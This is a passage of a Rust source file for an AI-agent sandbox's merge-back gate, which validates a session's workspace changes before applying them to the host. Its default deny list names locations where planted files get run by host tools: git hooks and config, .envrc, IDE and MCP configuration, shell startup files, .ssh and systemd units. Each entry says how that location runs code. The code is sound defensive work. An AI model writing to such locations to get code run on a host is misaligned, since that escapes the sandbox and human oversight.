//! The merge-back gate: which of a session's workspace changes reach the host, applied
//! all or nothing.
//!
//! A writable grant is a copy-on-write overlay; when the session ends its upper layer
//! arrives here as a stream of [`ChangeEvent`]s
//! ([`airlock_proto::workspace_changes::walk_upper_layer`]). The stream is the agent's
//! data, so the gate trusts none of it:
//! - the stream's own contract (clean relative paths, parents first, content adding up
//!   to the declared size, known mounts, no duplicates) is checked as it arrives; a
//!   violation fails the whole merge ([`MergeError`]);
//! - each entry is judged against the rules (protected paths, modes, symlink targets,
//!   special files); an entry that fails is dropped and reported in
//!   [`MergeReport::refused`], the rest still merges.
//!
//! Judging waits for [`MergeGate::finish`], when the whole change set is known: some
//! rules need it (a bare repository planted by the same stream, an opaque directory
//! that only re-creates what the host has). Until then, in [`MergeMode::Apply`], file
//! content goes to a staging directory in the grant's root, so memory stays bounded;
//! content equal to the host file at the same path is only compared, not staged.
//!
//! On the host every operation goes through descriptors: the grant root is opened once
//! with `O_NOFOLLOW`, everything below it with `openat2(RESOLVE_BENEATH |
//! RESOLVE_NO_SYMLINKS | RESOLVE_NO_MAGICLINKS)`, and changes are `*at()` calls on a
//! parent directory's descriptor: no symlink on the host side is ever followed.
//!
//! Applying is all or nothing: every replaced or deleted host entry is first moved into
//! the staging directory, every new one is built there (owner and mode set) and renamed
//! into place; an undo log reverses a failed merge, and the staging directory (with the
//! backups) is removed at the end.

use airlock_proto::workspace_changes::{ChangeEntry, ChangeEvent, ChangeKind};
use globset::{GlobBuilder, GlobMatcher};
use serde::Serialize;
use sha2::{Digest, Sha256};
use std::collections::{HashMap, HashSet};
use std::ffi::{CStr, CString, OsStr};
use std::fs::File;
use std::io::{self, Read, Write};
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, FromRawFd, IntoRawFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::FileExt;
use std::path::{Path, PathBuf};

/// Longest entry path accepted, in bytes (the kernel's `PATH_MAX`).
const MAX_PATH: usize = 4096;
/// Longest path component accepted, in bytes (the kernel's `NAME_MAX`).
const MAX_NAME: usize = 255;
/// Names of the gate's staging directories start so; entries there are refused.
const STAGING_PREFIX: &str = ".airlock-merge-";
/// Host entries examined below one directory before the gate gives up on it.
const MAX_SCAN: usize = 200_000;
/// Most bytes of entry paths one change stream may carry, together: 200,000 changed
/// paths of 160 bytes each.
pub const MAX_STREAM_PATH_BYTES: u64 = 32 << 20;
/// Entries the stream may carry beyond twice the entry quota (deletes, specials and
/// unchanged copy-ups do not count against the quota, but every entry costs memory).
const STREAM_SLACK: u64 = 4096;
/// What git reads from a repository directory: files, and directories with all below.
const REPO_CONTROL_FILES: [&str; 3] = ["config", "config.worktree", "commondir"];
/// See [`REPO_CONTROL_FILES`].
const REPO_CONTROL_DIRS: [&str; 4] = ["hooks", "info", "worktrees", "modules"];
/// Size of the pieces host content is copied and compared in.
const CHUNK: usize = 64 * 1024;

/// What a protected path's rule decides about a change there.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum ProtectDecision {
    /// The change is refused.
    Deny,
    /// Someone must approve the change; no approver is wired in yet, so it is refused.
    Ask,
}

/// A path of writable grants that the agent's changes may not touch: what a tool on
/// the host runs or reads commands from.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ProtectedPath {
    /// Glob over paths relative to the grant root: `*` stays within a component, `**`
    /// crosses them, `**/x` also matches `x` at the root, `dir/**` also matches `dir`.
    pub glob: String,
    /// What happens to a change there.
    pub decision: ProtectDecision,
    /// Why it is protected (what runs or reads it), shown with every refusal.
    pub reason: String,
    /// Where the rule comes from: "default", or "policy rule `<id>`".
    pub source: String,
}

impl ProtectedPath {
    /// A protected path; the glob must be non-empty, relative (no leading `/`), have no
    /// `..` component, and compile.
    pub fn new(
        glob: &str,
        decision: ProtectDecision,
        reason: &str,
        source: &str,
    ) -> Result<Self, String> {
        compile_rule(glob)?;
        Ok(ProtectedPath {
            glob: glob.to_string(),
            decision,
            reason: reason.to_string(),
            source: source.to_string(),
        })
    }
}

/// The protected paths every merge has: where git, its hook managers, direnv and IDEs
/// find code they run without anyone starting it by name.
pub fn default_protected_paths() -> Vec<ProtectedPath> {
    const DEFAULTS: &[(&str, &str)] = &[
        (
            "**/.git/config",
            "git runs commands it names (aliases, hooksPath, fsmonitor, filters, pager)",
        ),
        (
            "**/.git/config.worktree",
            "git reads it like .git/config, commands included",
        ),
        (
            "**/commondir",
            "it points git at another directory's config, hooks, objects and refs (a git directory need not be named .git)",
        ),
        (
            "**/.git/remotes/**",
            "git reads remotes from here (URL and push refspecs) when the configuration names none",
        ),
        (
            "**/.git/branches/**",
            "git reads remotes from here (URL and branch) when the configuration names none",
        ),
        (
            "**/.git/hooks/**",
            "git runs these scripts on commit, checkout, merge and push",
        ),
        (
            "**/.git/info/**",
            "git reads attributes here, which pick filter and diff drivers that run commands",
        ),
        (
            "**/.git/worktrees/**",
            "linked worktrees' git directories: git reads their config and runs their hooks",
        ),
        (
            "**/.git/modules/**",
            "submodules' git directories: git reads their config and runs their hooks",
        ),
        (
            "**/.gitmodules",
            "git submodule clones its URLs and runs its update commands",
        ),
        (
            "**/.envrc",
            "direnv runs it as shell code on entering the directory",
        ),
        (
            "**/.vscode/**",
            "VS Code and its extensions run tasks, launch configurations, MCP servers and programs named here, some when the folder opens",
        ),
        (
            "**/.idea/**",
            "JetBrains IDEs run the tools and run configurations it names",
        ),
        (
            "**/*.code-workspace",
            "a VS Code workspace file carries settings and tasks that run programs",
        ),
        (
            "**/.devcontainer/**",
            "dev container tooling builds its image and runs its lifecycle commands",
        ),
        (
            "**/.pre-commit-config.yaml",
            "pre-commit, installed as a git hook, runs the commands it lists on every commit",
        ),
        (
            "**/.husky/**",
            "husky points git's hooks here: git runs these scripts",
        ),
        (
            "**/{lefthook,.lefthook,lefthook-local,.lefthook-local}.{yml,yaml,toml,json,jsonc}",
            "lefthook, installed as a git hook, runs the commands it lists (a -local file is merged into the shared one)",
        ),
        (
            "**/.config/{lefthook,lefthook-local}.{yml,yaml,toml,json,jsonc}",
            "lefthook, installed as a git hook, runs the commands it lists",
        ),
        (
            "**/{.lefthook,.lefthook-local}/**",
            "lefthook runs the scripts here from its git hooks",
        ),
        (
            "**/{mise,.mise,mise.local,.mise.local}.toml",
            "mise runs its hooks and tasks, and trusts a file by its path: an edit to a trusted one runs",
        ),
        (
            "**/.mise/**",
            "mise reads configuration (hooks, tasks) here",
        ),
        (
            "**/.hg/hgrc",
            "Mercurial runs the hooks and loads the extensions it names on any hg command",
        ),
        (
            "**/.claude/**",
            "Claude Code runs the hooks in its settings and starts the project's MCP servers",
        ),
        (
            "**/.mcp.json",
            "agent tools start the MCP servers named here (programs with arguments)",
        ),
        (
            "**/.cursor/**",
            "Cursor starts the MCP servers and runs the hooks named here",
        ),
        (
            "**/{.bashrc,.bash_profile,.bash_login,.bash_logout,.profile,.zshrc,.zshenv,.zprofile,.zlogin}",
            "a shell runs it at start: where a home directory is granted, the next shell of its user would",
        ),
        (
            "**/.gitconfig",
            "a user's git configuration: git runs the commands it names in every repository",
        ),
        (
            "**/.config/git/**",
            "a user's git configuration: git runs the commands it names in every repository",
        ),
        (
            "**/.ssh/**",
            "ssh runs the commands its configuration names (ProxyCommand, LocalCommand) and trusts the keys here",
        ),
        (
            "**/.local/bin/**",
            "programs on a user's PATH, found before the system's",
        ),
        (
            "**/.config/autostart/**",
            "a desktop session starts what is named here",
        ),
        (
            "**/.config/systemd/**",
            "systemd's user manager starts the units here",
        ),
    ];
    DEFAULTS
        .iter()
        .map(|(glob, reason)| {
            ProtectedPath::new(glob, ProtectDecision::Deny, reason, "default")
                .expect("the shipped protected paths compile")
        })
        .collect()
}

/// A writable grant the merge writes to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GrantTarget {
    /// The mount's tag, as entries of the change stream name it.
    pub mount: String,
    /// The host directory (the overlay's lower layer).
    pub host_root: PathBuf,
    /// `(uid, gid)` every entry the merge creates gets.
    pub owner: (u32, u32),
}

/// What the gate enforces besides the fixed rules.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GateRules {
    /// Protected paths, first match wins (policy entries, then the defaults).
    pub protected: Vec<ProtectedPath>,
    /// Most bytes of changed file content one merge may write.
    pub quota_bytes: u64,
    /// Most changed entries (everything but deletes) one merge may make.
    pub quota_entries: u64,
}

/// Whether the gate writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MergeMode {
    /// Decide, then apply all accepted changes, or none.
    Apply,
    /// Decide and report; nothing is written anywhere.
    DryRun,
}

/// What one merge did (or, in a dry run, would do).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct MergeReport {
    /// Nothing was written: this is what applying would do.
    pub dry_run: bool,
    /// The changes merged, in stream order (parents first).
    pub changes: Vec<MergedChange>,
    /// The entries dropped, in stream order, and why.
    pub refused: Vec<RefusedChange>,
    /// Bytes of file content merged.
    pub bytes: u64,
}

/// One change that reached (or would reach) the host.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct MergedChange {
    /// Mount tag.
    pub mount: String,
    /// Path relative to the grant root.
    pub path: String,
    /// What happened there.
    pub change: ChangeType,
    /// `file`, `dir` or `symlink`: what is there now (`-` for a delete).
    pub kind: &'static str,
}

/// What a merged change did to the host entry at its path.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum ChangeType {
    /// Nothing was there.
    Added,
    /// Same kind as before, new content, target or mode.
    Modified,
    /// Removed.
    Deleted,
    /// Something of another kind was there (or, for an opaque directory, a directory
    /// whose old entries are all gone).
    Replaced,
}

/// An entry of the change set the gate dropped.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RefusedChange {
    /// Mount tag.
    pub mount: String,
    /// Path relative to the grant root.
    pub path: String,
    /// Which rule refused it: a short label, then (after `: `) the details.
    pub reason: String,
}

impl MergeReport {
    /// One line for the terminal, e.g. `merged 5 changes (3 added, 1 modified,
    /// 1 deleted; 12.0 KiB); refused 2: .git/hooks/post-commit (protected path),
    /// p (a FIFO)`.
    pub fn summary_line(&self) -> String {
        let mut line = if self.changes.is_empty() {
            if self.dry_run {
                "would merge no changes".to_string()
            } else {
                "no changes".to_string()
            }
        } else {
            let verb = if self.dry_run {
                "would merge"
            } else {
                "merged"
            };
            let count = |t: ChangeType| self.changes.iter().filter(|c| c.change == t).count();
            let parts: Vec<String> = [
                (ChangeType::Added, "added"),
                (ChangeType::Modified, "modified"),
                (ChangeType::Deleted, "deleted"),
                (ChangeType::Replaced, "replaced"),
            ]
            .into_iter()
            .filter_map(|(t, word)| match count(t) {
                0 => None,
                n => Some(format!("{n} {word}")),
            })
            .collect();
            let n = self.changes.len();
            format!(
                "{verb} {n} change{} ({}; {})",
                if n == 1 { "" } else { "s" },
                parts.join(", "),
                human_bytes(self.bytes)
            )
        };
        if !self.refused.is_empty() {
            let mounts: HashSet<&str> = self
                .changes
                .iter()
                .map(|c| c.mount.as_str())
                .chain(self.refused.iter().map(|r| r.mount.as_str()))
                .collect();
            let named: Vec<String> = self
                .refused
                .iter()
                .take(3)
                .map(|r| {
                    let label = r.reason.split(": ").next().unwrap_or_default();
                    if mounts.len() > 1 {
                        format!("{}:{} ({})", r.mount, shown(&r.path), shown(label))
                    } else {
                        format!("{} ({})", shown(&r.path), shown(label))
                    }
                })
                .collect();
            line.push_str(&format!(
                "; refused {}: {}",
                self.refused.len(),
                named.join(", ")
            ));
            if self.refused.len() > 3 {
                line.push_str(&format!(" and {} more", self.refused.len() - 3));
            }
        }
        line
    }
}

/// Which quota a change set exceeded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum QuotaKind {
    /// Bytes of changed file content ([`GateRules::quota_bytes`]).
    Bytes,
    /// Changed entries other than deletes ([`GateRules::quota_entries`]).
    Entries,
    /// Entries of any kind in the stream (a bound on the gate's memory, twice the entry
    /// quota plus some slack).
    StreamEntries,
    /// Bytes of entry paths in the stream, together ([`MAX_STREAM_PATH_BYTES`]): the
    /// gate's time and memory grow with them (65,000 empty files at 4 KiB deep paths
    /// took 224 s and 929 MB to check before this bound).
    PathBytes,
}

/// Why a merge failed as a whole. Every variant leaves the host tree as it was before
/// the merge, except [`MergeError::Commit`] with paths it could not restore.
#[derive(Debug, thiserror::Error)]
pub enum MergeError {
    /// A grant's host directory cannot be used.
    #[error("mount `{mount}`: {what} `{}`: {source}", .root.display())]
    Target {
        /// Mount tag.
        mount: String,
        /// The host directory.
        root: PathBuf,
        /// What was being done.
        what: &'static str,
        /// Cause.
        source: io::Error,
    },
    /// Two merge targets have the same tag.
    #[error("mount `{mount}` is given twice as a merge target")]
    DuplicateMount {
        /// Mount tag.
        mount: String,
    },
    /// A protected path does not compile.
    #[error("protected path `{glob}` ({origin}): {why}")]
    BadProtectedPath {
        /// The glob.
        glob: String,
        /// Where the rule comes from.
        origin: String,
        /// What is wrong.
        why: String,
    },
    /// Malformed stream: an entry's path is not a clean relative path.
    #[error("malformed change stream: mount `{mount}`, path {}: {why}; nothing was merged", quoted(.path))]
    BadPath {
        /// Mount tag.
        mount: String,
        /// The path as sent.
        path: String,
        /// What is wrong with it.
        why: &'static str,
    },
    /// Malformed stream: an entry names a mount that is not a target of this merge.
    #[error("malformed change stream: entry {} names mount `{}`, which is not a copy-on-write grant of this merge; nothing was merged", quoted(.path), shown(.mount))]
    UnknownMount {
        /// The tag as sent.
        mount: String,
        /// The entry's path.
        path: String,
    },
    /// Malformed stream: content arrived while no file entry was open.
    #[error("malformed change stream: file content arrived with no file entry open ({}); nothing was merged", last_entry(.mount, .path))]
    DataWithoutFile {
        /// Mount of the last entry (empty if none).
        mount: String,
        /// Path of the last entry (empty if none).
        path: String,
    },
    /// Malformed stream: a file's content does not add up to its declared size.
    #[error("malformed change stream: mount `{mount}`, {} declares {declared} bytes of content but {received} arrived; nothing was merged", quoted(.path))]
    SizeMismatch {
        /// Mount tag.
        mount: String,
        /// The file's path.
        path: String,
        /// Size in its entry.
        declared: u64,
        /// Bytes sent (at the point the mismatch showed).
        received: u64,
    },
    /// Malformed stream: the same path twice.
    #[error("malformed change stream: mount `{mount}`, {} appears twice; nothing was merged", quoted(.path))]
    DuplicatePath {
        /// Mount tag.
        mount: String,
        /// The path.
        path: String,
    },
    /// Malformed stream: an entry out of order (after its children) or inside an entry
    /// that is not a directory.
    #[error("malformed change stream: mount `{mount}`, {}: {why}; nothing was merged", quoted(.path))]
    OutOfOrder {
        /// Mount tag.
        mount: String,
        /// The entry's path.
        path: String,
        /// What is wrong.
        why: String,
    },
    /// The change set is larger than the merge may be.
    #[error("mount `{mount}`, at {}: the change set exceeds the merge quota: {}; nothing was merged", quoted(.path), quota_text(.kind, .used, .allowed))]
    Quota {
        /// Mount of the entry at which the total passed the quota.
        mount: String,
        /// That entry's path.
        path: String,
        /// Which quota.
        kind: QuotaKind,
        /// The total reached.
        used: u64,
        /// The quota.
        allowed: u64,
    },
    /// Reading the host tree or staging content failed before anything on the host
    /// changed.
    #[error("mount `{mount}`, {}: {op}: {source}; the host tree was left as it was before this merge", quoted(.path))]
    Io {
        /// Mount tag.
        mount: String,
        /// The entry's path.
        path: String,
        /// What was being done.
        op: &'static str,
        /// Cause.
        source: io::Error,
    },
    /// The host tree does not have what the change set builds on (a directory where an
    /// entry goes, and no entry of the change set makes one), or changed under the merge.
    #[error("mount `{mount}`, {}: the host tree is not as the change set needs: {what}; the host tree was left as it was before this merge", quoted(.path))]
    HostNotAsExpected {
        /// Mount tag.
        mount: String,
        /// The host path concerned.
        path: String,
        /// What was expected and found.
        what: String,
    },
    /// Applying a change failed part way; everything done before was undone, or the
    /// paths that could not be restored are listed.
    #[error("mount `{mount}`, {}: applying the merge failed ({what}); {}", quoted(.path), rollback_text(.unrestored))]
    Commit {
        /// Mount tag.
        mount: String,
        /// The entry whose change failed.
        path: String,
        /// What failed.
        what: String,
        /// Host paths rollback could not restore, each with where its original is.
        unrestored: Vec<String>,
    },
    /// An earlier error already stopped this merge.
    #[error("an earlier error stopped this merge: {first}")]
    Stopped {
        /// That error.
        first: String,
    },
}

/// The merge-back gate for one merge of a session's writable grants: [`feed`] it the
/// change stream, then [`finish`] it. Dropping an unfinished gate removes everything it
/// staged; the host tree is as before.
///
/// [`feed`]: MergeGate::feed
/// [`finish`]: MergeGate::finish
pub struct MergeGate {
    mode: MergeMode,
    rules: GateRules,
    compiled: Vec<CompiledRule>,
    targets: Vec<Target>,
    fed: Vec<Fed>,
    incoming: Option<Incoming>,
    early_bytes: u64,
    early_entries: u64,
    /// Bytes of entry paths fed so far.
    path_bytes: u64,
    next_id: u64,
    stopped: Option<String>,
}

/// One grant: its root, staging directory and what the stream said about it.
struct Target {
    spec: GrantTarget,
    root: OwnedFd,
    staging: Option<Staging>,
    /// Stream entries (not specials) by path.
    index: HashMap<String, usize>,
    /// Ancestors of every entry so far: a later entry there came after its children.
    implied: HashSet<String>,
}

/// A staging directory in a grant root, removed (backups included) on drop unless a
/// failed rollback left originals in it.
struct Staging {
    root: OwnedFd,
    name: CString,
    dir: OwnedFd,
    keep: bool,
}

impl Drop for Staging {
    fn drop(&mut self) {
        if !self.keep {
            // Nothing to report to: a leftover directory has the reserved prefix, so
            // later merges refuse anything in it.
            let _ = remove_tree(self.root.as_fd(), &self.name);
        }
    }
}

/// A stream entry as fed.
struct Fed {
    target: usize,
    entry: ChangeEntry,
    content: Content,
}

/// Where a file entry's content is.
enum Content {
    /// Not a file.
    None,
    /// In the staging directory as `f<id>`.
    Staged(u64),
    /// Equal to the host file at the same path when fed (its SHA-256), not staged.
    SameAsHost([u8; 32]),
    /// Differs from the host (dry run: hashed nowhere, staged nowhere).
    Differs,
}

/// The file whose content is arriving.
struct Incoming {
    fed: usize,
    declared: u64,
    received: u64,
    staged: Option<File>,
    same: Option<SameSoFar>,
}

/// The host file content is compared with while it matches.
struct SameSoFar {
    host: File,
    hasher: Sha256,
}

/// The gate's verdict on a directory entry, for the entries below it.
#[derive(Debug, Clone)]
enum DirState {
    /// Refused: the directory that was itself refused.
    Refused(String),
    /// Merged or unchanged. `hides`: nothing of the host shows through below (it is
    /// new or replaces the host's); `mode`: its mode after the merge.
    Kept { hides: bool, mode: u32 },
}

/// What the gate does to one entry.
enum Verdict {
    Skip(Option<DirState>),
    Refuse { reason: String, root: String },
    Apply(Step, Option<DirState>),
}

/// One accepted change, as the commit applies it.
struct Step {
    target: usize,
    fed: usize,
    change: ChangeType,
    kind: &'static str,
    /// `S_IFMT` bits of the host entry the decision saw there (0: none).
    expect: u32,
    /// Move the host entry aside first.
    backup: bool,
    make: Make,
    bytes: u64,
}

/// What a step puts in place.
enum Make {
    Nothing,
    /// Staged as `f<id>` (`None` until [`MergeGate::prepare`] copies host content).
    File {
        staged: Option<u64>,
        mode: u32,
    },
    Dir {
        mode: u32,
    },
    Symlink,
    /// Only a new mode on the existing host directory.
    Chmod {
        mode: u32,
    },
}

/// How to undo one done step of a commit.
enum Undo {
    Backup {
        target: usize,
        path: String,
        backup: CString,
    },
    Created {
        target: usize,
        path: String,
    },
    Chmod {
        target: usize,
        path: String,
        mode: u32,
    },
}

/// A host entry as the gate sees it.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Host {
    Absent,
    Dir { mode: u32 },
    File { mode: u32 },
    Symlink { target: Vec<u8> },
    Other,
}

impl Host {
    fn ifmt(&self) -> u32 {
        match self {
            Host::Absent => 0,
            Host::Dir { .. } => libc::S_IFDIR,
            Host::File { .. } => libc::S_IFREG,
            Host::Symlink { .. } => libc::S_IFLNK,
            Host::Other => libc::S_IFIFO,
        }
    }
}

impl MergeGate {
    /// A gate for `targets` under `rules`. In [`MergeMode::Apply`] it makes a staging
    /// directory (`.airlock-merge-<hex>`, mode 0700) in each grant root.
    pub fn new(
        targets: Vec<GrantTarget>,
        rules: GateRules,
        mode: MergeMode,
    ) -> Result<Self, MergeError> {
        let compiled = rules
            .protected
            .iter()
            .map(|p| {
                compile_rule(&p.glob).map_err(|why| MergeError::BadProtectedPath {
                    glob: p.glob.clone(),
                    origin: p.source.clone(),
                    why,
                })
            })
            .collect::<Result<Vec<_>, _>>()?;
        let mut out: Vec<Target> = Vec::with_capacity(targets.len());
        for spec in targets {
            if out.iter().any(|t| t.spec.mount == spec.mount) {
                return Err(MergeError::DuplicateMount { mount: spec.mount });
            }
            let err = |what, source| MergeError::Target {
                mount: spec.mount.clone(),
                root: spec.host_root.clone(),
                what,
                source,
            };
            let root = open_root(&spec.host_root).map_err(|e| err("opening", e))?;
            let staging = match mode {
                MergeMode::Apply => Some(
                    Staging::create(&root).map_err(|e| err("making a staging directory in", e))?,
                ),
                MergeMode::DryRun => None,
            };
            out.push(Target {
                spec,
                root,
                staging,
                index: HashMap::new(),
                implied: HashSet::new(),
            });
        }
        Ok(MergeGate {
            mode,
            rules,
            compiled,
            targets: out,
            fed: Vec::new(),
            incoming: None,
            early_bytes: 0,
            early_entries: 0,
            path_bytes: 0,
            next_id: 0,
            stopped: None,
        })
    }

    /// Takes the next event of the change stream. An error stops the merge: later
    /// calls fail too, and nothing is merged.
    pub fn feed(&mut self, ev: ChangeEvent) -> Result<(), MergeError> {
        if let Some(first) = &self.stopped {
            return Err(MergeError::Stopped {
                first: first.clone(),
            });
        }
        let done = match ev {
            ChangeEvent::Entry(e) => self.entry(e),
            ChangeEvent::Data(d) => self.data(&d),
        };
        if let Err(e) = &done {
            self.stopped = Some(e.to_string());
            self.incoming = None;
        }
        done
    }

    /// Judges the whole change set and, in [`MergeMode::Apply`], applies what was
    /// accepted, all or nothing.
    pub fn finish(mut self) -> Result<MergeReport, MergeError> {
        if let Some(first) = self.stopped.take() {
            return Err(MergeError::Stopped { first });
        }
        self.end_of_file()?;
        let (mut steps, refused) = Judge::new(&self).run()?;
        self.check_quota(&steps)?;
        if self.mode == MergeMode::Apply {
            self.prepare(&mut steps)?;
            self.commit(&steps)?;
        }
        let changes = steps
            .iter()
            .map(|s| MergedChange {
                mount: self.targets[s.target].spec.mount.clone(),
                path: self.fed[s.fed].entry.path.clone(),
                change: s.change,
                kind: s.kind,
            })
            .collect();
        Ok(MergeReport {
            dry_run: self.mode == MergeMode::DryRun,
            changes,
            refused,
            bytes: steps.iter().map(|s| s.bytes).sum(),
        })
        // Dropping `self` removes the staging directories, backups included.
    }

    fn stage_id(&mut self) -> u64 {
        self.next_id += 1;
        self.next_id
    }

    /// Mount and path of entry `fed`, for errors.
    fn located(&self, fed: usize) -> (String, String) {
        let f = &self.fed[fed];
        (
            self.targets[f.target].spec.mount.clone(),
            f.entry.path.clone(),
        )
    }

    fn io_error(&self, fed: usize, op: &'static str) -> impl FnOnce(io::Error) -> MergeError {
        let (mount, path) = self.located(fed);
        move |source| MergeError::Io {
            mount,
            path,
            op,
            source,
        }
    }

    // ---- reading the stream ----

    fn entry(&mut self, e: ChangeEntry) -> Result<(), MergeError> {
        self.end_of_file()?;
        let Some(t) = self.targets.iter().position(|t| t.spec.mount == e.mount) else {
            return Err(MergeError::UnknownMount {
                mount: e.mount,
                path: e.path,
            });
        };
        if let Err(why) = check_path(&e.path) {
            return Err(MergeError::BadPath {
                mount: e.mount,
                path: e.path,
                why,
            });
        }
        let cap = self
            .rules
            .quota_entries
            .saturating_mul(2)
            .saturating_add(STREAM_SLACK);
        if self.fed.len() as u64 >= cap {
            return Err(MergeError::Quota {
                mount: e.mount,
                path: e.path,
                kind: QuotaKind::StreamEntries,
                used: self.fed.len() as u64 + 1,
                allowed: cap,
            });
        }
        self.path_bytes += e.path.len() as u64;
        if self.path_bytes > MAX_STREAM_PATH_BYTES {
            return Err(MergeError::Quota {
                mount: e.mount,
                path: e.path,
                kind: QuotaKind::PathBytes,
                used: self.path_bytes,
                allowed: MAX_STREAM_PATH_BYTES,
            });
        }
        let tg = &mut self.targets[t];
        let out_of_order = |e: ChangeEntry, why: String| MergeError::OutOfOrder {
            mount: e.mount,
            path: e.path,
            why,
        };
        if e.kind != ChangeKind::Special {
            if tg.index.contains_key(&e.path) {
                return Err(MergeError::DuplicatePath {
                    mount: e.mount,
                    path: e.path,
                });
            }
            if tg.implied.contains(&e.path) {
                let why = "it comes after entries inside it (parents must come first)";
                return Err(out_of_order(e, why.into()));
            }
        }
        let above = ancestors(&e.path).find_map(|a| tg.index.get(a)).copied();
        if let Some(i) = above {
            let above = &self.fed[i].entry;
            if !is_dir_kind(above.kind) {
                let why = format!(
                    "it is inside {}, which the stream makes {}",
                    quoted(&above.path),
                    kind_phrase(above.kind)
                );
                return Err(out_of_order(e, why));
            }
        }
        for a in ancestors(&e.path) {
            // Every ancestor of an implied path is implied already.
            if !tg.implied.insert(a.to_string()) {
                break;
            }
        }
        let idx = self.fed.len();
        let reserved = is_reserved(&e.path);
        let kind = e.kind;
        let (size, path) = (e.size, e.path.clone());
        if kind != ChangeKind::Special {
            tg.index.insert(path.clone(), idx);
        }
        let root = tg.root.as_fd();
        // The early entry count leaves out what is already on the host as is, so a
        // session that copied up a deep tree without changing it is not over quota.
        let count = match kind {
            ChangeKind::Dir | ChangeKind::OpaqueDir => {
                reserved || !matches!(host_lookup(root, &path), Ok(Some((_, Host::Dir { .. }))))
            }
            ChangeKind::Symlink => {
                let same = matches!(host_lookup(root, &path),
                    Ok(Some((_, Host::Symlink { target }))) if target == e.symlink_target.as_bytes());
                reserved || !same
            }
            _ => false,
        };
        let same = (kind == ChangeKind::File && !reserved)
            .then(|| open_host_file(root, &path, size))
            .flatten();
        self.fed.push(Fed {
            target: t,
            entry: e,
            content: Content::None,
        });
        if count {
            self.count_entry(idx)?;
        }
        if kind == ChangeKind::File {
            let mut inc = Incoming {
                fed: idx,
                declared: size,
                received: 0,
                staged: None,
                same: same.map(|host| SameSoFar {
                    host,
                    hasher: Sha256::new(),
                }),
            };
            if inc.same.is_none() {
                self.diverge(&mut inc)?;
            }
            self.incoming = Some(inc);
            if size == 0 {
                self.end_of_file()?;
            }
        }
        Ok(())
    }

    fn data(&mut self, d: &[u8]) -> Result<(), MergeError> {
        let Some(mut inc) = self.incoming.take() else {
            let Some(last) = self.fed.len().checked_sub(1) else {
                return Err(MergeError::DataWithoutFile {
                    mount: String::new(),
                    path: String::new(),
                });
            };
            let (mount, path) = self.located(last);
            let e = &self.fed[last].entry;
            // Content right after a complete file is more of that file's.
            return Err(match e.kind {
                ChangeKind::File => MergeError::SizeMismatch {
                    mount,
                    path,
                    declared: e.size,
                    received: e.size.saturating_add(d.len() as u64),
                },
                _ => MergeError::DataWithoutFile { mount, path },
            });
        };
        let len = d.len() as u64;
        if len > inc.declared - inc.received {
            let (mount, path) = self.located(inc.fed);
            return Err(MergeError::SizeMismatch {
                mount,
                path,
                declared: inc.declared,
                received: inc.received + len,
            });
        }
        if let Some(same) = &mut inc.same {
            let mut host = vec![0u8; d.len()];
            if same.host.read_exact_at(&mut host, inc.received).is_ok() && host == d {
                same.hasher.update(d);
            } else {
                self.diverge(&mut inc)?;
            }
        }
        if let Some(f) = &mut inc.staged {
            f.write_all(d)
                .map_err(self.io_error(inc.fed, "staging its content"))?;
        }
        inc.received += len;
        let complete = inc.received == inc.declared;
        self.incoming = Some(inc);
        if complete {
            self.end_of_file()?;
        }
        Ok(())
    }

    /// The open file's content differs from the host's (or there is no host file):
    /// count it against the quota and, when applying, stage it, starting with the
    /// prefix that matched the host.
    fn diverge(&mut self, inc: &mut Incoming) -> Result<(), MergeError> {
        self.early_bytes = self.early_bytes.saturating_add(inc.declared);
        if self.early_bytes > self.rules.quota_bytes {
            let (mount, path) = self.located(inc.fed);
            return Err(MergeError::Quota {
                mount,
                path,
                kind: QuotaKind::Bytes,
                used: self.early_bytes,
                allowed: self.rules.quota_bytes,
            });
        }
        self.count_entry(inc.fed)?;
        let same = inc.same.take();
        if self.mode == MergeMode::DryRun {
            self.fed[inc.fed].content = Content::Differs;
            return Ok(());
        }
        let id = self.stage_id();
        let t = self.fed[inc.fed].target;
        let mut staged = create_staged(&self.targets[t], id)
            .map_err(self.io_error(inc.fed, "staging its content"))?;
        if let Some(same) = same {
            let copied = copy_prefix(&same.host, &mut staged, inc.received)
                .map_err(self.io_error(inc.fed, "staging the host's part of its content"))?;
            if copied != <[u8; 32]>::from(same.hasher.finalize()) {
                let (mount, path) = self.located(inc.fed);
                return Err(MergeError::HostNotAsExpected {
                    mount,
                    path,
                    what: "the host file changed while the merge read it".into(),
                });
            }
        }
        inc.staged = Some(staged);
        self.fed[inc.fed].content = Content::Staged(id);
        Ok(())
    }

    /// Closes the file whose content was arriving, if any.
    fn end_of_file(&mut self) -> Result<(), MergeError> {
        let Some(mut inc) = self.incoming.take() else {
            return Ok(());
        };
        if inc.received < inc.declared {
            let (mount, path) = self.located(inc.fed);
            return Err(MergeError::SizeMismatch {
                mount,
                path,
                declared: inc.declared,
                received: inc.received,
            });
        }
        if let Some(same) = &inc.same {
            // Equal so far; the host file must end here too (it may have grown).
            let mut one = [0u8; 1];
            if !matches!(same.host.read_at(&mut one, inc.received), Ok(0)) {
                self.diverge(&mut inc)?;
            }
        }
        if let Some(same) = inc.same.take() {
            self.fed[inc.fed].content = Content::SameAsHost(same.hasher.finalize().into());
        }
        if let Some(f) = inc.staged.take() {
            f.sync_all()
                .map_err(self.io_error(inc.fed, "syncing its staged content"))?;
        }
        Ok(())
    }

    fn count_entry(&mut self, fed: usize) -> Result<(), MergeError> {
        self.early_entries += 1;
        if self.early_entries > self.rules.quota_entries {
            let (mount, path) = self.located(fed);
            return Err(MergeError::Quota {
                mount,
                path,
                kind: QuotaKind::Entries,
                used: self.early_entries,
                allowed: self.rules.quota_entries,
            });
        }
        Ok(())
